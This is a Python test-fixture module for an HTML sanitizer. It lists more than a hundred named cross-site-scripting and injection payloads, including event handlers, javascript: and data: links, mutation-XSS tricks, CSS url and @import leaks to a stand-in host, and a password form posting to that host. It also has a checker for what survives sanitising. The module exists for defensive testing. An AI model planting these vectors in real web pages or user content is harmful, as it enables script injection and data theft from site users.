"""Hostile pages by what each tries, for the unit tests and the browser. `HIT` is what a page would
do if it could act.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

from tidings.presentation.safe.markup import HARMLESS_ATTRIBUTES, SHEET

HIT = "document.documentElement.dataset.hit=1"
ELSEWHERE = "http://elsewhere.example/x"

PAGES: dict[str, str] = {
    "script": f"<script>{HIT}</script>",
    "script in capitals": f"<SCRIPT>{HIT}</SCRIPT>",
    "script without an end": f"<script>{HIT}",
    "script in two parts": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "script from elsewhere": f"<script src={ELSEWHERE}></script>",
    "script after a title": f"<title></title><script>{HIT}</script></title>",
    "script in a title": f"<title><script>{HIT}</script></title>",
    "script in a comment that ends early": f"<!--><script>{HIT}</script>-->",
    "script in a comment with a bang": f"<!-- --!><script>{HIT}</script>-->",
    "script in a processing instruction": f"<p>x<?xml <script>{HIT}</script> ?>",
    "script in cdata": f"<svg><![CDATA[</svg><script>{HIT}</script>]]></svg>",
    "onerror": f"<img src=x onerror={HIT}>",
    "onerror behind a slash": f"<img/src=x/onerror={HIT}>",
    "onload of svg": f"<svg onload={HIT}>",
    "onload of body": f"<body onload={HIT}>x",
    "onfocus with autofocus": f"<input autofocus onfocus={HIT}>",
    "onpageshow": f"<body onpageshow={HIT}>x",
    "ontoggle": f"<details open ontoggle={HIT}><summary>x</summary></details>",
    "onstart of marquee": f"<marquee onstart={HIT}>x</marquee>",
    "onanimationstart": f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={HIT}>x",
    "onerror of video": f"<video><source onerror={HIT}></video>",
    "onbegin of animate": f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    "href set by animate": f"<svg><a><animate attributeName=href values=javascript:{HIT} /><text>x</text></a></svg>",
    "use of data": f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{HIT}</script></svg>#x\"/></svg>",
    "foreign object": f"<svg><foreignObject><iframe srcdoc='<script>parent.{HIT}</script>'></iframe></foreignObject></svg>",
    "script in svg": f"<svg><script>{HIT}</script></svg>",
    "script in svg by href": f"<svg><script href=data:,{HIT} /></svg>",
    "javascript link": f"<a href=javascript:{HIT}>x</a>",
    "javascript with a tab": f"<a href='java&#9;script:{HIT}'>x</a>",
    "javascript in entities": f"<a href='&#106;&#97;&#118;&#97;&#115;cript&colon;{HIT}'>x</a>",
    "javascript after controls": f"<a href='\x01\x02javascript:{HIT}'>x</a>",
    "javascript with a line end": f"<a href='java\nscript:{HIT}'>x</a>",
    "javascript of an image map": f"<map name=m><area href=javascript:{HIT} shape=default></map><img usemap=#m src=x>",
    "javascript of math": f"<math href=javascript:{HIT}>x</math>",
    "data link": f"<a href='data:text/html,<script>{HIT}</script>'>x</a>",
    "vbscript link": "<a href=vbscript:msgbox(1)>x</a>",
    "link into the parent": f"<a href={ELSEWHERE} target=_top>x</a>",
    "ping": f"<a href=/x ping={ELSEWHERE}>x</a>",
    "form": f"<form action={ELSEWHERE}><input name=password><button>x</button></form>",
    "formaction": f"<form><button formaction=javascript:{HIT}>x</button></form>",
    "form by id": f"<form id=f></form><button form=f formaction={ELSEWHERE}>x</button>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "meta refresh in the body": f"<body><p>x<meta http-equiv=Refresh content='0;url=javascript:{HIT}'>",
    "base": f"<base href={ELSEWHERE}/ target=_top><img src=y><a href=z>x</a>",
    "iframe": f"<iframe src={ELSEWHERE}></iframe>",
    "iframe with a page in it": f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    "iframe with javascript": f"<iframe src=javascript:parent.{HIT}></iframe>",
    "frameset": f"<frameset><frame src=javascript:parent.{HIT}></frameset>",
    "object": f"<object data=javascript:{HIT}></object>",
    "object with a page": f"<object data='data:text/html,<script>parent.{HIT}</script>' type=text/html>x</object>",
    "embed": f"<embed src=javascript:{HIT}>",
    "applet": f"<applet code={ELSEWHERE}>x</applet>",
    "portal": f"<portal src={ELSEWHERE}></portal>",
    "prefetch": f"<link rel=prefetch href={ELSEWHERE}><link rel=dns-prefetch href=//elsewhere.example>",
    "sheet from elsewhere": f"<link rel=stylesheet href={ELSEWHERE}>",
    "import": f"<style>@import '{ELSEWHERE}'; p{{color:red}}</style><p>x",
    "import in escapes": f"<style>@\\69mport '{ELSEWHERE}';</style><p>x",
    "url in a sheet": f"<style>p{{background:url({ELSEWHERE})}}</style><p>x",
    "url in escapes": f"<style>p{{background:\\75rl({ELSEWHERE})}}</style><p>x",
    "url in a style": f"<p style='background:url({ELSEWHERE})'>x",
    "url in a style, in entities": f"<p style='background:&#117;rl({ELSEWHERE})'>x",
    "url behind a comment": f"<p style='background:u/**/rl({ELSEWHERE});color:red'>x",
    "image set": f"<p style='background:image-set(\"{ELSEWHERE}\" 1x)'>x",
    "font": f"<style>@font-face{{font-family:x;src:url({ELSEWHERE})}}p{{font-family:x}}</style><p>x",
    "expression": f"<p style='width:expression({HIT})'>x",
    "binding": f"<p style='-moz-binding:url({ELSEWHERE}#x)'>x",
    "behavior": f"<p style='behavior:url({ELSEWHERE})'>x",
    "attribute selectors": f"<style>input[value^=a]{{background:url({ELSEWHERE}?a)}}</style><input value=a>",
    "style that ends early": f"<style>p{{color:red}}</style/><img src=x onerror={HIT}>",
    "style in a style's string": f"<style>p::before{{content:'</style><img src=x onerror={HIT}>'}}</style>",
    "style that hides marks": "<style>ins,del,.tidings{display:none!important}</style><p>x",
    "overlay": "<div style='position:fixed;inset:0;background:#fff'>Log in</div>",
    "srcset": f"<img srcset='{ELSEWHERE} 1x, {ELSEWHERE} 2x' alt=x>",
    "picture": f"<picture><source srcset={ELSEWHERE}><img src={ELSEWHERE} alt=x></picture>",
    "late image": f"<img src=data:, data-src={ELSEWHERE} alt=x>",
    "image": f"<img src={ELSEWHERE} alt=x>",
    "image of svg": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'/>\" alt=x>",
    "image button": f"<input type=image src={ELSEWHERE} onerror={HIT}>",
    "background attribute": f"<table background={ELSEWHERE}><td background={ELSEWHERE}>x</table>",
    "audio and video": f"<audio src={ELSEWHERE} autoplay></audio><video poster={ELSEWHERE} src={ELSEWHERE}></video>",
    "track": f"<video><track src={ELSEWHERE} default></video>",
    "manifest": f"<html manifest={ELSEWHERE}><p>x",
    "noscript in an attribute": f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    "noscript in the head": f"<head><noscript><style></noscript><img src=x onerror={HIT}>",
    "template": f"<template><img src=x onerror={HIT}></template>",
    "template that is a shadow": f"<div><template shadowrootmode=open><img src=x onerror={HIT}></template></div>",
    "noembed": f"<noembed><img title='</noembed><img src=x onerror={HIT}>'></noembed>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={HIT}>'></xmp>",
    "textarea": f"<textarea><p title='</textarea><img src=x onerror={HIT}>'></textarea>",
    "plaintext": f"<plaintext><img src=x onerror={HIT}>",
    "mutation: math and style": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={HIT}&gt;'>",
    "mutation: svg and style": f"<svg></p><style><a id='</style><img src=1 onerror={HIT}>'>",
    "mutation: svg and title": f"<svg><title><style><img title='</style><img src=1 onerror={HIT}>'></title></svg>",
    "mutation: forms in one another": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={HIT}>",
    "mutation: a list in foreign parts": f"<math><mi//xlink:href='data:x,<script>{HIT}</script>'><annotation-xml encoding='text/html'><p><style><img title='</style><img src=x onerror={HIT}>'>",
    "mutation: entities twice": f"<p title='&amp;lt;img src=x onerror={HIT}&amp;gt;'>&lt;img src=x onerror={HIT}&gt;",
    "mutation: quotes of another kind": f"<img alt='`><img src=x onerror={HIT}>'>",
    "mutation: select": f"<select><style></select><img src=x onerror={HIT}></style></select>",
    "mutation: a table in a link": f"<a><table><a href=javascript:{HIT}><td>x</table></a>",
    "mutation: nul": f"<scr\0ipt>{HIT}</scr\0ipt><img src=x onerr\0or={HIT}>",
    "mutation: deep": "<div>" * 700 + f"<svg><style><img src=x onerror={HIT}>",
    "mutation: svg desc": f"<svg><desc><style><img title='</style><img src=x onerror={HIT}>'></desc></svg>",
    "end of our body": f"</body></html><script>{HIT}</script>",
    "our own marks": f"<ins class='tidings'>x</ins><del class=tidings>y</del><p class='a tidings-link' title=z>w<p id=e1 onclick={HIT}>",
    "quotes in a class": f"<p class='\"><img src=x onerror={HIT}>'>x",
    "quotes in an id": f"<p id='\"><img src=x onerror={HIT}>'>x",
    "quotes in a language": f"<html lang='\"><img src=x onerror={HIT}>'>x",
    "dom clobbering": "<form name=getElementById><input name=attributes></form><a id=documentElement name=cookie>x</a>",
    "custom element": f"<x-x is=script onclick={HIT} style='color:red'>x</x-x>",
    "handler in a namespace": f"<p xlink:href=javascript:{HIT} xml:base=javascript:{HIT}>x",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "dialog": f"<dialog open><form method=dialog><button onclick={HIT}>x</button></form></dialog>",
    "popover": f"<button popovertarget=x onclick={HIT}>x</button><div id=x popover onbeforetoggle={HIT}>y</div>",
}

ALLOWED = HARMLESS_ATTRIBUTES | {"html", "head", "body", "meta", "title", "style", "ins", "del"}
FETCHING = {"href", "srcset", "action", "formaction", "background", "target", "ping", "poster", "data"}


class Reader(HTMLParser):
    """Reads with a third parser, without foreign elements: each start tag, and the text of styles."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.styles: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        """Note an element."""
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        """Note the text of a style."""
        if self.cdata_elem == "style":
            self.styles.append(data)


def acting(page: str) -> list[str]:
    """Return what could act or fetch in a page that was made safe, as a third parser reads it;
    nothing if it is safe.
    """
    read = Reader(page)
    found = [f"<{tag}>" for tag, _ in read.tags if tag not in ALLOWED]
    for tag, given in read.tags:
        found += [f"{tag} {name}" for name in given if name.startswith("on") or ":" in name or name in FETCHING]
        if "src" in given and not str(given["src"]).startswith("data:image/"):
            found.append(f"{tag} src={given['src']}")
        if tag == "meta" and given.get("http-equiv", "Content-Security-Policy") != "Content-Security-Policy":
            found.append(f"meta {given['http-equiv']}")
    styles = [*read.styles, *(str(given["style"]) for _, given in read.tags if "style" in given)]
    return found + [
        text for text in styles if text != SHEET and re.search(r"url|@import|@font|expression|\\|<|fixed", text)
    ]
